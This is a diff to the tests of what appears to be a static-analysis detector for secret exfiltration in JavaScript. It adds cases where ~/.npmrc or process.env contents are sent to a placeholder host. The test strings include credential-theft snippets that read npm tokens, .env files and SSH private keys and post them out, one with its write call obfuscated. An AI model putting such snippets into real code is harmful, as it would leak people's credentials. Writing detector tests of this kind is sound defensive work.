@@ -411,6 +411,7 @@ test('independent review 2: values read from credential stores tracked into requ
   const far = Array.from({ length: 80 }, (_, i) => `function pad${i}() { return ${i}; }`).join('\n');
   assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n${far}\nrequire('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`).includes('recon/secret-flow'));
   assert.ok(sig(`const fs = require('fs');\nfs.readFile('.env', 'utf8', (err, data) => { fetch('https://x.example.invalid/', { method: 'POST', body: data }); });`).includes('recon/secret-flow'));
+  assert.ok(sig(`const k = require('fs').readFileSync('/home/u/.npmrc', 'utf8');\nconst r = require('https').request({ hostname: 'x.example.invalid' });\nr['wr' + 'ite'](k);`).includes('recon/secret-flow'));
   assert.ok(sig(`const fs = require('fs');\nfunction env() { return fs.readFileSync('.env', 'utf8'); }\nconst s = require('net').connect(9, 'x.example.invalid');\ns.write(env());`).includes('recon/secret-flow'));
   assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst result = {};\nresult.key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n${far}\nfetch('https://x.example.invalid/', { method: 'POST', body: JSON.stringify(result) });`).includes('recon/secret-flow'));
   // Controls: the .env's token in the Authorization header; a .env read next to a request that carries none of it.
@@ -445,6 +446,7 @@ test('independent review 2: Worker eval, data: URL imports, environment copies, 
   assert.ok(sig('const e = Object.assign({}, process.env);\nsend(JSON.stringify(e));').includes('env/env-serialize'));
   assert.ok(sig('const e = { ...process.env };\nconst f = e;\nsend(JSON.stringify(f));').includes('env/env-serialize'));
   assert.ok(sig('const s = {};\nObject.assign(s, process.env);\nsend(Buffer.from(JSON.stringify(s)));').includes('env/env-serialize'));
+  assert.ok(sig('const c = structuredClone(process.env);\nsend(JSON.stringify(c));').includes('env/env-serialize'));
   // Control: a copy handed to a child process; setting a variable on a copy is not setting it for the process.
   assert.ok(!sig("const env = { ...process.env, X: '1' };\nrequire('child_process').spawn('x', { env });").includes('env/env-serialize'));
   assert.deepEqual(analyzeSource("const env = Object.assign({}, process.env);\nenv.NODE_TLS_REJECT_UNAUTHORIZED = '0';").hooks, []);
